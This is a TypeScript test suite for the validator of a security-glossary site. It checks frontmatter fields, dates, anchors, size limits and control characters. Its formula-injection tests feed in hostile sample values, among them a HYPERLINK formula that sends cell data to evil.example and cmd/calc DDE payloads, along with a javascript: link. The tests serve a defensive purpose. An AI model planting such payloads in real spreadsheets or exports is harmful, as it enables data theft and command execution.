import { describe, expect, test } from 'vitest';
import {
  BODY_MAX_CHARACTERS,
  countWords,
  splitFrontmatter,
  validateEntry,
  withoutFrontmatter,
} from '../../src/entries/validate-entry.ts';
import { parseReviewDate, termSchema } from '../../src/schemas/term.ts';
import { formatProblems, type Problem } from '../../src/entries/problems.ts';
import { termSource, validFrontmatter, VALID_BODY, type Frontmatter } from '../helpers/term-source.ts';

const FILE = 'content/terms/sample-term.mdx';
const base = () => validFrontmatter('sample-term', 7, ['a-one', 'b-two', 'c-three']);

function problemsOf(change: (fm: Frontmatter) => void, body = VALID_BODY): Problem[] {
  const fm = base();
  change(fm);
  const result = validateEntry(FILE, termSource(fm, body));
  return result.ok ? [] : result.problems;
}

describe('validateEntry', () => {
  test('accepts a complete entry and applies defaults', () => {
    const result = validateEntry(FILE, termSource(base()));
    expect(result.ok).toBe(true);
    if (result.ok) {
      expect(result.entry.data.redirectFrom).toEqual([]);
      expect(result.entry.data.reviewed).toEqual(new Date('2026-11-01'));
    }
  });

  test.each<[string, (fm: Frontmatter) => void, Partial<Problem>]>([
    [
      'a missing field',
      (fm) => delete fm['summary'],
      { field: 'summary', expected: 'text', found: 'nothing (the field is missing)' },
    ],
    [
      'a mistyped number',
      (fm) => (fm['number'] = 'seven'),
      { field: 'number', expected: 'a number', found: '"seven"' },
    ],
    ['a negative number', (fm) => (fm['number'] = -3), { field: 'number', found: '-3' }],
    [
      'an unknown key',
      (fm) => (fm['titel'] = 'x'),
      { field: 'titel', found: 'the unknown key "titel"', hint: 'did you mean "title"?' },
    ],
    [
      'an unknown category',
      (fm) => (fm['category'] = 'defence-and-operations'),
      { field: 'category', found: '"defence-and-operations"', hint: 'did you mean "defense-and-operations"?' },
    ],
    [
      'a malformed ATT&CK ID',
      (fm) => (fm['attack'] = { id: 'TA02', domain: 'enterprise', kind: 'tactic' }),
      { field: 'attack.id', expected: 'an ATT&CK tactic ID like "TA0002"', found: '"TA02"' },
    ],
    [
      'an ID that does not fit its kind',
      (fm) => (fm['attack'] = { id: 'T1059.001', domain: 'enterprise', kind: 'technique' }),
      { field: 'attack.id', expected: 'an ATT&CK technique ID like "T1059"' },
    ],
    [
      'an unknown ATT&CK domain',
      (fm) => (fm['attack'] = { id: 'TA0002', domain: 'enterprize', kind: 'tactic' }),
      { field: 'attack.domain', expected: 'one of enterprise, mobile, ics' },
    ],
    [
      'too few examples',
      (fm) => (fm['examples'] = (fm['examples'] as unknown[]).slice(0, 1)),
      { field: 'examples', expected: 'at least 2 items', found: '1' },
    ],
    ['too few FAQ entries', (fm) => (fm['faq'] = []), { field: 'faq', expected: 'at least 4 items', found: '0' }],
    [
      'a summary of two sentences',
      (fm) => (fm['summary'] = 'It watches endpoints closely. It also records every process start.'),
      { field: 'summary', expected: 'a single sentence, not several' },
    ],
    [
      'a summary too short',
      (fm) => (fm['summary'] = 'Too short.'),
      { field: 'summary', expected: 'at least 40 characters', found: '10 characters' },
    ],
    [
      'an unknown relation',
      (fm) => ((fm['related'] as { relation: string }[])[0]!.relation = 'detected-by'),
      { field: 'related[0].relation', hint: 'did you mean "detects"?' },
    ],
    [
      'a source without a URL scheme',
      (fm) => (fm['sources'] = [{ title: 'x', url: 'attack.mitre.org' }]),
      { field: 'sources[0].url', expected: 'an http(s) URL' },
    ],
    [
      'a review date that is not a date',
      (fm) => (fm['reviewed'] = 'last week'),
      { field: 'reviewed', expected: 'a date written YYYY-MM-DD' },
    ],
    [
      'a placeholder',
      (fm) => (fm['summary'] = 'TBD: someone should write this summary before it ships.'),
      { field: 'summary', found: 'the placeholder "TBD"' },
    ],
    [
      'an FAQ answer that repeats the summary',
      (fm) =>
        ((fm['faq'] as { answer: string }[])[1]!.answer =
          'Sample Term is a made-up term that exists only so the test suite has something to check.'),
      { field: 'faq[1].answer', found: 'an answer that mostly repeats the summary' },
    ],
    [
      'an FAQ answer that points elsewhere',
      (fm) => ((fm['faq'] as { answer: string }[])[0]!.answer = 'As detailed above, it depends.'),
      { field: 'faq[0].answer', found: '"As detailed above"' },
    ],
  ])('reports %s with the field, what was expected and what was found', (_, change, expected) => {
    const problems = problemsOf(change);
    expect(problems).toContainEqual(expect.objectContaining({ file: FILE, ...expected }));
  });

  test('reports malformed MDX in the body with its line', () => {
    const problems = problemsOf(() => {}, `${VALID_BODY}\n\nThe registry key <HKLM is unclosed.`);
    expect(problems).toContainEqual(
      expect.objectContaining({
        field: 'body',
        expected: expect.stringContaining('valid MDX'),
        line: expect.any(Number),
      }),
    );
  });

  test.each([
    ['an unknown component', '<Chart kind="bar" />', { field: 'body', found: 'the unknown component <Chart>' }],
    [
      'a component with a bad prop',
      '<Callout type="danger" title="x">\n\nWatch out.\n\n</Callout>',
      { field: '<Callout> prop "type"', found: '"danger"' },
    ],
    ['an expression', 'It ran {count} times.', { field: 'body', found: '{count}' }],
    [
      'an import',
      'import Chart from "../chart.astro"',
      { field: 'body', found: '"import Chart from "../chart.astro""' },
    ],
  ])('reports %s in the body, with the line in the file', (_, snippet, expected) => {
    const source = termSource(base(), `${VALID_BODY}\n\n${snippet}`);
    const result = validateEntry(FILE, source);
    const line = source.split('\n').findIndex((l) => l.includes(snippet.split('\n')[0]!)) + 1;
    expect(result.ok ? [] : result.problems).toContainEqual(expect.objectContaining({ ...expected, line }));
  });

  test('reports frontmatter problems with their line in the file', () => {
    const fm = base();
    fm['category'] = 'nope';
    const source = termSource(fm);
    const result = validateEntry(FILE, source);
    const line = source.split('\n').findIndex((l) => l.startsWith('category:')) + 1;
    expect(result.ok ? [] : result.problems).toContainEqual(expect.objectContaining({ field: 'category', line }));
  });

  test('reports a javascript: link in an example, naming the field', () => {
    const problems = problemsOf(
      (fm) => ((fm['examples'] as { body: string }[])[0]!.body = 'Click [here](javascript:alert(1)) to see.'),
    );
    expect(problems).toContainEqual(
      expect.objectContaining({ field: 'examples[0].body', found: expect.stringContaining('"javascript:"') }),
    );
  });

  test('reports a body outside 300–700 words', () => {
    expect(problemsOf(() => {}, '## Short\n\nOnly a few words here.')).toContainEqual(
      expect.objectContaining({ field: 'body', found: '6 words' }),
    );
  });

  test('reports a file without frontmatter', () => {
    const result = validateEntry(FILE, '# Just a heading\n');
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.problems[0]).toMatchObject({ field: 'frontmatter', found: 'none' });
  });

  test('reports several problems of one file together', () => {
    const problems = problemsOf((fm) => {
      delete fm['title'];
      fm['number'] = 0;
      fm['extra'] = true;
    });
    expect(problems.map((p) => p.field).sort()).toEqual(['extra', 'number', 'title']);
  });
});

describe('validateEntry: names a spreadsheet would run as formulas', () => {
  test.each([
    ['title', '=HYPERLINK("https://evil.example/?d="&A2,"Click me")'],
    ['title', "+cmd|' /C calc'!A0"],
    ['qualifier', '@SUM(1+1)*cmd|" /C calc"!A0'],
    ['aliases[0]', '=1+2'],
    ['aliases[0]', ' =1+2'],
    ['title', '\t=1+2'],
    ['title', '\r=1+2'],
  ])('rejects %s %j', (field, value) => {
    const problems = problemsOf((fm) => {
      if (field === 'aliases[0]') fm['aliases'] = [value];
      else fm[field] = value;
    });
    expect(problems).toContainEqual(
      expect.objectContaining({
        field,
        expected:
          'a name that does not start with "=", "+", "@", a tab or a line break (a spreadsheet opening /glossary.csv would run it as a formula)',
        found: JSON.stringify(value),
        line: expect.any(Number),
      }),
    );
  });

  test('accepts names that merely contain those signs, or start with a minus (command-line switches are names)', () => {
    expect(
      problemsOf((fm) => ((fm['title'] = 'C++ = trouble'), (fm['aliases'] = ['-EncodedCommand', 'user@host']))),
    ).toEqual([]);
  });
});

describe('validateEntry: control characters', () => {
  const BEL = '\u0007';
  test.each([
    ['title', `Alarm${BEL} Bell`, 'U+0007 (bell) at character 6'],
    ['title', 'Nul\u0000 Byte', 'U+0000 (NUL) at character 4'],
    ['qualifier', 'Two\nLines', 'U+000A (line break) at character 4'],
    ['aliases[0]', 'Tab\tbed', 'U+0009 (tab) at character 4'],
    ['examples[1].title', `Esc\u001b[31m`, 'U+001B (escape) at character 4'],
    ['faq[2].question', `Why${BEL}?`, 'U+0007 (bell) at character 4'],
    ['sources[0].title', `NIST${BEL}`, 'U+0007 (bell) at character 5'],
    [
      'summary',
      `Sample Term is a made-up term${BEL} that exists only so the tests have something to check.`,
      'U+0007 (bell) at character 30',
    ],
    ['examples[0].body', `Someone types${BEL} a command.`, 'U+0007 (bell) at character 14'],
  ])('rejects one in %s, naming the field, the line, the character and where it is', (field, value, where) => {
    const fm = base();
    const [, key, index, sub] = /^(\w+)(?:\[(\d+)\])?(?:\.(\w+))?$/.exec(field)!;
    if (index === undefined) fm[key!] = value;
    else if (sub === undefined) (fm[key!] as unknown[])[Number(index)] = value;
    else (fm[key!] as Record<string, unknown>[])[Number(index)]![sub] = value;
    const source = termSource(fm);
    const result = validateEntry(FILE, source);
    expect(result.ok ? [] : result.problems).toContainEqual(
      expect.objectContaining({
        field,
        found: expect.stringContaining(`which holds the control character ${where}`),
        line: expect.any(Number),
      }),
    );
  });

  test('allows line breaks and tabs in prose: the summary, example bodies and FAQ answers', () => {
    expect(
      problemsOf((fm) => {
        (fm['examples'] as { body: string }[])[0]!.body =
          'First line of the sample.\n\tIndented second line, with a tab.';
        (fm['faq'] as { answer: string }[])[0]!.answer = 'Usually the detection team,\nbecause it writes the rules.';
      }),
    ).toEqual([]);
  });

  test('rejects one in the body, with its line, and a raw one in a YAML value that the old check passed', () => {
    const source = termSource(base(), `${VALID_BODY}\n\nA line with a bell\u0007 in it.`);
    const result = validateEntry(FILE, source);
    const line = source.split('\n').findIndex((l) => l.includes('bell\u0007')) + 1;
    expect(result.ok ? [] : result.problems).toContainEqual(
      expect.objectContaining({
        field: 'body',
        line,
        found: 'the control character U+0007 (bell)',
        hint: 'delete it: most editors do not show it',
      }),
    );
    const raw = termSource(base()).replace('title: Sample Term', 'title: Sample\u0007Term');
    expect(validateEntry(FILE, raw).ok).toBe(false);
  });
});

describe('validateEntry: the review date', () => {
  const reviewed = (value: unknown) =>
    problemsOf((fm) => (fm['reviewed'] = value)).filter((p) => p.field === 'reviewed');
  const today = new Date().toISOString().slice(0, 10);
  const inDays = (n: number) => new Date(Date.now() + n * 86_400_000).toISOString().slice(0, 10);

  test.each<[string, unknown, Partial<Problem>]>([
    [
      'a day February does not have',
      '2026-02-30',
      { expected: 'a real calendar date written YYYY-MM-DD', found: '"2026-02-30", but February 2026 has 28 days' },
    ],
    [
      'the 29th of February in a common year',
      '2027-02-29',
      { expected: 'a real calendar date written YYYY-MM-DD', found: '"2027-02-29", but February 2027 has 28 days' },
    ],
    ['a thirteenth month', '2026-13-01', { found: '"2026-13-01", but there is no month 13' }],
    ['a number', 1, { expected: 'a date written YYYY-MM-DD', found: '1' }],
    [
      'a date in words',
      'Nov 5 2026',
      { expected: 'a date written YYYY-MM-DD', found: '"Nov 5 2026"', hint: 'write it as 2026-11-05' },
    ],
    [
      'a date with a time and offset',
      '2026-11-28T23:30:00-05:00',
      {
        expected: 'a date written YYYY-MM-DD',
        found: '"2026-11-28T23:30:00-05:00", a date with a time',
        hint: 'write the date alone: 2026-11-28',
      },
    ],
    [
      'a date far in the future',
      '2099-01-01',
      { expected: `a date no later than today (${today})`, found: '"2099-01-01", a date in the future' },
    ],
    ['the day after tomorrow', inDays(2), { found: `"${inDays(2)}", a date in the future` }],
    ['a missing date', undefined, { expected: 'a date written YYYY-MM-DD', found: 'nothing (the field is missing)' }],
  ])('rejects %s, saying what was found', (_, value, expected) => {
    const problems = reviewed(value);
    expect(problems).toEqual([expect.objectContaining({ ...expected, line: expect.any(Number) })]);
  });

  test('accepts a real date up to today, and keeps it as that day at midnight UTC', () => {
    for (const date of ['2024-02-29', today, inDays(-1)]) {
      const fm = base();
      fm['reviewed'] = date;
      const result = validateEntry(FILE, termSource(fm));
      expect(result.ok && result.entry.data.reviewed.toISOString()).toBe(`${date}T00:00:00.000Z`);
    }
  });

  test("accepts its own output again, as Astro validates the loader's data with the same schema", () => {
    const result = validateEntry(FILE, termSource(base()));
    expect(result.ok && termSchema.parse(result.entry.data).reviewed).toEqual(new Date('2026-11-01'));
  });

  test('never turns a date into the next or previous day: the date written is the date shown', () => {
    expect(parseReviewDate('2026-11-28', new Date('2026-11-28T01:00:00Z'))).toEqual({
      date: new Date('2026-11-28T00:00:00Z'),
    });
    // At 23:00 UTC on the 28th it is already the 29th in UTC+1 and later zones: an author there may write it.
    expect(parseReviewDate('2026-11-29', new Date('2026-11-28T23:00:00Z'))).toEqual({
      date: new Date('2026-11-29T00:00:00Z'),
    });
    expect(parseReviewDate('2026-11-30', new Date('2026-11-28T23:00:00Z'))).toMatchObject({
      found: '"2026-11-30", a date in the future',
    });
  });
});

describe('validateEntry: FAQ anchors', () => {
  const withQuestions = (...questions: string[]) =>
    problemsOf((fm) => {
      const faq = fm['faq'] as { question: string }[];
      questions.forEach((q, i) => (faq[i]!.question = q));
    }).filter((p) => p.field.startsWith('faq'));

  test('rejects two questions that give the same anchor, naming both', () => {
    expect(withQuestions('What is it?', 'What is it??')).toEqual([
      expect.objectContaining({
        field: 'faq[1].question',
        expected: 'a question whose anchor no other question of this entry has',
        found: '"What is it??", which gives #faq-what-is-it, the anchor of faq[0].question "What is it?"',
        line: expect.any(Number),
      }),
    ]);
  });

  test('rejects a question that gives an empty anchor', () => {
    expect(withQuestions('Что это такое?')).toEqual([
      expect.objectContaining({
        field: 'faq[0].question',
        expected: 'a question with letters or digits a–z or 0–9, from which its anchor (#faq-…) is made',
        found: '"Что это такое?", which gives an empty anchor',
      }),
    ]);
  });

  test("rejects two long questions that differ only after the anchor's first 80 characters", () => {
    const long = 'How does this particular control behave when the endpoint has been offline for a long time';
    expect(withQuestions(`${long} and then reconnects?`, `${long} and never comes back?`)).toHaveLength(1);
  });
});

describe('validateEntry: sizes', () => {
  const long = (n: number) =>
    'word '
      .repeat(Math.ceil(n / 5))
      .slice(0, n)
      .trim() + '.';
  test.each<[string, (fm: Frontmatter) => void, Partial<Problem>]>([
    [
      'a one-million-word example',
      (fm) => ((fm['examples'] as { body: string }[])[0]!.body = 'word '.repeat(1_000_000)),
      { field: 'examples[0].body', expected: 'at most 1500 characters', found: '4999999 characters' },
    ],
    [
      'a long FAQ answer',
      (fm) => ((fm['faq'] as { answer: string }[])[0]!.answer = long(2_500)),
      { field: 'faq[0].answer', expected: 'at most 2000 characters' },
    ],
    [
      'a long FAQ question',
      (fm) => ((fm['faq'] as { question: string }[])[0]!.question = `${long(250)}?`),
      { field: 'faq[0].question', expected: 'at most 200 characters' },
    ],
    [
      'a long source title',
      (fm) => ((fm['sources'] as { title: string }[])[0]!.title = long(400)),
      { field: 'sources[0].title', expected: 'at most 300 characters' },
    ],
    [
      'a long source URL',
      (fm) => ((fm['sources'] as { url: string }[])[0]!.url = `https://example.org/${'a'.repeat(2_100)}`),
      { field: 'sources[0].url', expected: 'at most 2000 characters' },
    ],
    [
      'a long ATT&CK ID',
      (fm) => (fm['attack'] = { id: 'T'.repeat(50), domain: 'enterprise', kind: 'technique' }),
      { field: 'attack.id', expected: 'at most 20 characters' },
    ],
    [
      'a long related slug',
      (fm) => ((fm['related'] as { term: string }[])[0]!.term = 'a'.repeat(100)),
      { field: 'related[0].term', expected: 'at most 80 characters' },
    ],
    [
      'too many aliases',
      (fm) => (fm['aliases'] = Array.from({ length: 31 }, (_, i) => `Alias ${i}`)),
      { field: 'aliases', expected: 'at most 30 items', found: '31' },
    ],
    [
      'too many examples',
      (fm) =>
        (fm['examples'] = Array.from({ length: 11 }, (_, i) => ({ title: `Example ${i}`, body: 'A concrete case.' }))),
      { field: 'examples', expected: 'at most 10 items' },
    ],
    [
      'too many FAQ entries',
      (fm) =>
        (fm['faq'] = Array.from({ length: 13 }, (_, i) => ({
          question: `Question ${i}?`,
          answer: `Answer number ${i}.`,
        }))),
      { field: 'faq', expected: 'at most 12 items' },
    ],
  ])('rejects %s, naming the limit', (_, change, expected) => {
    expect(problemsOf(change)).toContainEqual(expect.objectContaining({ file: FILE, ...expected }));
  });

  test('rejects a 5 MB body without compiling it, naming the limit', () => {
    const started = performance.now();
    const problems = problemsOf(() => {}, `## How it works\n\n${'x'.repeat(5_000_000)}`);
    expect(problems).toContainEqual({
      file: FILE,
      field: 'body',
      expected: `a body of at most ${BODY_MAX_CHARACTERS.toLocaleString('en')} characters`,
      found: expect.stringMatching(/^5,000,0\d\d characters$/),
    });
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});

describe('formatProblems', () => {
  test('groups problems by file and ends with a count', () => {
    const text = formatProblems([
      { file: 'content/terms/b.mdx', field: 'number', expected: 'a number', found: '"x"' },
      { file: 'content/terms/a.mdx', field: 'title', expected: 'text', found: 'nothing', hint: 'add one' },
      { file: 'content/terms/b.mdx', field: 'summary', expected: 'text', found: 'nothing' },
    ]);
    expect(text).toBe(
      [
        'content/terms/a.mdx',
        '  - title: expected text, found nothing (add one)',
        'content/terms/b.mdx',
        '  - number: expected a number, found "x"',
        '  - summary: expected text, found nothing',
        '3 problems in 2 files: fix them and build again.',
      ].join('\n'),
    );
  });
});

describe('countWords', () => {
  test.each([
    ['', 0],
    ['Two words.', 2],
    ['Run `cmd.exe /c whoami` now.', 5],
  ])('counts %j as %i words', (text, words) => {
    expect(countWords(text)).toBe(words);
  });
});

describe('withoutFrontmatter', () => {
  test('empties the frontmatter to its line breaks, so the body keeps its lines', () => {
    const source = termSource(validFrontmatter('alpha-control', 1, ['beta-signal']), VALID_BODY);
    const blanked = withoutFrontmatter(source);
    expect(blanked.split('\n').length).toBe(source.split('\n').length);
    expect(splitFrontmatter(blanked)!.body).toBe(splitFrontmatter(source)!.body);
    expect(splitFrontmatter(blanked)!.yaml.trim()).toBe('');
    expect(withoutFrontmatter('---\r\ntitle: A\r\n---\r\nBody')).toBe('---\r\n\r\n---\r\nBody');
  });
});
